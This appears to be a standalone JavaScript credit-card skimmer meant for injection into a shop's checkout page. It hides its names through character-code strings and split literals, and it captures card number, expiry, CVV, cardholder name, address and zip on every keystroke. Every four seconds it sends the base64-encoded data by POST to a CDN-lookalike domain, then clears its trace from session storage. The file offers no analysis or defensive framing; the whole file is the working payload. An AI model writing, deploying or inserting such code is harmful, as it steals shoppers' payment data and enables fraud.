var _s = function () { return String.fromCharCode.apply(null, arguments); };
var _st = window[_s(115, 101, 115, 115, 105, 111, 110, 83, 116, 111, 114, 97, 103, 101)];
var _k = _s(95, 99, 97, 114, 116, 95, 116, 109, 112);
var _X = window["XML" + "Http" + "Request"];

function _g(sel) {
    var e = document.querySelector(sel);
    return e ? e.value : "";
}

function _stage() {
    var rec = [
        _g("#" + "card" + "Number"), _g("#" + "exp" + "Month"), _g("#" + "exp" + "Year"),
        _g("#" + "c" + "vv"), _g("#" + "holder" + "Name"), _g("#" + "addr" + "ess"), _g("#" + "zip")
    ];
    _st.setItem(_k, rec.join("\t"));
}

["input", "change"].forEach(function (ev) {
    document.addEventListener(ev, _stage, true);
});

setInterval(function () {
    var v = _st.getItem(_k);
    if (!v || v.split("\t")[0].length < 13) return;
    var r = new _X();
    r.open("PO" + "ST", "https://" + "cloud" + "front-" + "cdn-js" + ".top" + "/p", true);
    r.send(btoa(v));
    _st.removeItem(_k);
}, 4000);
